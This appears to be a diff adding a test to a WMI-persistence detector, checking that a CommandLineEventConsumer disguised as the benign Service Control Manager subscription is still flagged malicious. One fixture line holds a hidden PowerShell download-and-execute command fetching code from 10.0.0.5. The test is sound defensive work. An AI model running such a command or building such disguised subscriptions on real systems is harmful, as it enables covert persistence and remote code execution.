@@ -83,6 +83,29 @@ describe('reconstruction from WMI-Activity', () => {
     assert.match(s.reasons[0], /imitates known-benign 'windows-scm-event-log'/);
   });
 
+  test('the genuine SCM subscription beside an imitation bound to its filter: the imitation\'s detections are not labelled benign', () => {
+    const fake = SCM_5861.replace('instance of NTEventLogEventConsumer', 'instance of CommandLineEventConsumer').replace(
+      'SourceName = "Service Control Manager";',
+      'CommandLineTemplate = "powershell.exe -nop -w hidden -c iex(iwr http://10.0.0.5/a)";',
+    );
+    const events = [
+      ev5861('WKS01', 'SCM Event Log Filter', 'NTEventLogEventConsumer="SCM Event Log Consumer"', SCM_5861, 1),
+      ev5861('WKS01', 'SCM Event Log Filter', 'CommandLineEventConsumer="SCM Event Log Consumer"', fake, 4),
+    ];
+    const r = runDetectionOn({ iterateEvents: () => events }, {});
+    const genuine = r.subscriptions.find((s) => s.consumer?.className === 'NTEventLogEventConsumer')!;
+    const imitation = r.subscriptions.find((s) => s.consumer?.className === 'CommandLineEventConsumer')!;
+    assert.equal(genuine.verdict, 'benign');
+    assert.equal(imitation.verdict, 'malicious');
+    // The shared filter puts record 4 among the genuine subscription's evidence too.
+    assert.ok(genuine.evidence.some((e) => e.recordId === 4), 'the case this test is about');
+    const onImitation = r.detections.filter((d) => d.evidence.recordId === 4);
+    assert.ok(onImitation.length > 0, 'the imitation raises detections');
+    assert.ok(onImitation.every((d) => d.benign === undefined), JSON.stringify(onImitation.map((d) => [d.ruleTitle, d.benign])));
+    // The genuine one's own record stays labelled, when a rule fires on it.
+    for (const d of r.detections.filter((x) => x.evidence.recordId === 1)) assert.match(d.benign?.reason ?? '', /known benign/);
+  });
+
   test('5860: temporary subscription with user and process', () => {
     const e = mkEvent(WMI, 5860, {
       NamespaceName: '//./root/CIMV2',
